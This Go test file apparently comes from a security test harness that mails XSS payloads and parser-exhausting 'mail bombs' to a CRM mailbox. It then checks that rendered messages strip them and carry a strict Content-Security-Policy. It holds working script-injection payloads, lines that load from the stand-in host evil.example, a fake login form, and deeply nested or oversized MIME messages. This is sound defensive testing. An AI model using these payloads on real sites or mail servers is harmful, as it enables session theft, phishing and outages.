package main

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"
)

// hostileLayouts are HTML that would run, load or send something, were it shown as
// it is.
func hostileLayouts() []string {
	return []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", `<a href="javascript:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src="//evil.example/x.swf">`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`,
		`<style>@import "//evil.example/x.css"; * { background: url(//evil.example/x) }</style>`, `<div style="background:url(//evil.example/x)">x</div>`,
		`<div style="width:expression(alert(1))">x</div>`, `<img src="//evil.example/pixel.gif">`, `<img srcset="//evil.example/pixel.gif 1x">`, `<video poster=//evil.example/p src=//evil.example/v autoplay>`,
		`<form action="//evil.example"><input name=password><button>Log in</button></form>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<img src="cid:x&quot; onerror=&quot;alert(1)">`, `<img src='/api/v1/session?inline=true'>`, `<b onmouseover=alert(1)>x</b>`,
		"\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", `<svg><animate attributeName=href values=javascript:alert(1)>`,
		`<template><script>alert(1)</script></template>`, `<textarea><script>alert(1)</script>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<body background="//evil.example/x" onload=alert(1)>`,
	}
}

// harm is what none of them may be shown with.
var harm = regexp.MustCompile(`(?i)<\s*(script|iframe|object|embed|meta|base|link|style|form|input|video|audio|svg|math|template|noscript|body)\b|<[^>]*\s(on[a-z]+|srcset|poster|background|srcdoc)\s*=|` +
	`<[^>]*(href|src)\s*=\s*["']?\s*(javascript|vbscript|data):|<[^>]*src\s*=\s*["']?(https?:)?//|<[^>]*style\s*=[^>]*(url\(|expression\(|@import)`)

// htmlMail is a mail with a layout of its own.
func (w *attackWorld) htmlMail(_ context.Context, n int, a *attempts) error {
	layouts := hostileLayouts()
	charset := []string{"utf-8", "utf-7", "utf-16", "x-user-defined"}[n/len(layouts)%4]
	return w.deliver(a, "dmarc=pass header.from=people.example", "From: layout@people.example\r\nSubject: <script>alert(1)</script>\r\n"+w.mailID(n, "html")+
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset="+charset+"\r\n\r\n<p>Hostile layout.</p>"+layouts[n%len(layouts)]+"\r\n")
}

// hostileHTML opens each mail that has a layout as an agent's browser does, and
// counts those that would do something. It needs some to be there.
func (w *attackWorld) hostileHTML(ctx context.Context) (bad int64, err error) {
	rows, err := w.db.pool.Query(ctx, `SELECT m.id FROM crm_chat_messages m JOIN crm_chat_members mb ON mb.id = m.sender_id
		WHERE mb.channel_id = $1 AND mb.address = 'layout@people.example' ORDER BY m.id LIMIT 200`, string(w.mailbox.ID))
	if err != nil {
		return 0, err
	}
	var ids []int64
	for rows.Next() {
		var id int64
		if err := rows.Scan(&id); err != nil {
			return 0, err
		}
		ids = append(ids, id)
	}
	if err := rows.Err(); err != nil {
		return 0, err
	}
	shown := 0
	for _, id := range ids {
		header, text, err := w.page(ctx, fmt.Sprintf("/messages/%d/html", id))
		if err != nil {
			return bad, err
		}
		if text == "" {
			continue
		}
		shown++
		policy := header.Get("Content-Security-Policy")
		if harm.MatchString(text) || !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "allow-scripts") {
			bad++
			w.report.breaks("message %d is shown as %.200q with the policy %q", id, text, policy)
		}
	}
	w.report.holds(shown > 0 || len(ids) == 0, "none of %d mails with a layout is shown", len(ids))
	return bad, nil
}

// page is what an agent's browser gets of a page; no text where there is none.
func (w *attackWorld) page(ctx context.Context, path string) (http.Header, string, error) {
	ctx, cancel := context.WithTimeout(ctx, answerTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, strings.TrimSuffix(w.api, "/api/v1")+path, nil) //nolint:gosec // our own server
	if err != nil {
		return nil, "", err
	}
	req.Header.Set("Cookie", w.a.cookie)
	res, err := w.client.Do(req) //nolint:gosec // our own server's
	if err != nil {
		return nil, "", err
	}
	defer res.Body.Close()
	text, err := readSome(res.Body)
	if res.StatusCode != http.StatusOK {
		text = ""
	}
	return res.Header, text, err
}

// bombMail is small, or not very large, and much work for who reads it carelessly.
func (w *attackWorld) bombMail(_ context.Context, n int, a *attempts) error {
	const mime = "MIME-Version: 1.0\r\n"
	part := func(boundary, content string) string { return "--" + boundary + "\r\n" + content + "\r\n" }
	nested := func(depth int) string {
		var head, tail strings.Builder
		for i := range depth {
			fmt.Fprintf(&head, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
			fmt.Fprintf(&tail, "\r\n--b%d--", depth-1-i)
		}
		return head.String() + "Content-Type: text/plain\r\n\r\nDeep.\r\n" + tail.String()
	}
	bombs := []func() string{
		func() string { return mime + nested(2000) },
		func() string {
			return mime + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + strings.Repeat(part("b", "Content-Type: text/plain\r\n\r\nx"), 20_000) + "--b--"
		},
		func() string { return strings.Repeat("X-Many: a\r\n", 100_000) + "\r\nMany.\r\n" },
		func() string { return "X-Long: " + strings.Repeat("a", 3<<20) + "\r\n\r\nLong.\r\n" },
		func() string {
			return "Subject: " + strings.Repeat("=?utf-8?b?w6Q=?= ", 20_000) + "\r\nTo: " + strings.Repeat("a@b.c, ", 20_000) + "\r\nReferences: " + strings.Repeat("<a@b> ", 20_000) + "\r\n\r\nWords.\r\n"
		},
		func() string {
			return mime + strings.Repeat("Content-Type: message/rfc822\r\n\r\n", 5000) + "Nested.\r\n"
		},
		func() string { return mime + "Content-Type: text/html\r\n\r\n" + strings.Repeat("<div>", 200_000) },
		func() string { return mime + "Content-Type: text/html\r\n\r\n" + strings.Repeat("<a href=\"", 100_000) },
		func() string { return mime + "Content-Type: text/plain\r\n\r\n" + strings.Repeat("> ", 500_000) },
		func() string {
			return mime + "Content-Type: text/plain\r\n\r\n" + strings.Repeat("On Mon, wrote:\r\n> x\r\n", 50_000)
		},
		func() string {
			return mime + "Content-Type: multipart/mixed; boundary=\"" + strings.Repeat("b", 100_000) + "\"\r\n\r\n" + strings.Repeat("--b", 300_000)
		},
		func() string {
			return mime + "Content-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + strings.Repeat("=1B$B=", 200_000)
		},
		func() string {
			return mime + "Content-Type: text/plain" + strings.Repeat("; a*0*=utf-8''x; a*1=y", 5000) + "\r\n\r\nParameters.\r\n"
		},
		func() string {
			return mime + "Content-Type: application/ms-tnef\r\nContent-Disposition: attachment; filename=winmail.dat\r\n\r\n" + strings.Repeat("\x78\x9f\x3e\x22\xff\xff", 100_000)
		},
		func() string {
			return mime + "Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\n" + strings.Repeat("BEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY\r\n", 20_000)
		},
	}
	return w.deliver(a, "dmarc=pass header.from=people.example", "From: bomb@people.example\r\n"+w.mailID(n, "bomb")+bombs[n%len(bombs)]())
}
